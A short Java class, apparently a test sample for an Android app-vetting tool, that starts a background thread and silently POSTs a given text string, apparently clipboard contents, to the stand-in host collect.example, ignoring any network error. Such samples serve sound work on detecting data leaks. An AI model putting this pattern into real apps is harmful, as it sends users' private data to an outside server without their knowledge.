package org.apkvet.clip.to_http_form;

import java.io.*;
import java.net.*;

final class Net implements Runnable {
    private final String text;

    private Net(String text) {
        this.text = text;
    }

    static void send(String text) {
        new Thread(new Net(text)).start();
    }

    @Override
    public void run() {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://collect.example/paste").openConnection();
            connection.setDoOutput(true);
            BufferedWriter out = new BufferedWriter(new OutputStreamWriter(connection.getOutputStream(), "UTF-8"));
            out.write("text=" + URLEncoder.encode(text, "UTF-8"));
            out.close();
            connection.getResponseCode();
        } catch (IOException offline) {
            return;
        }
    }
}
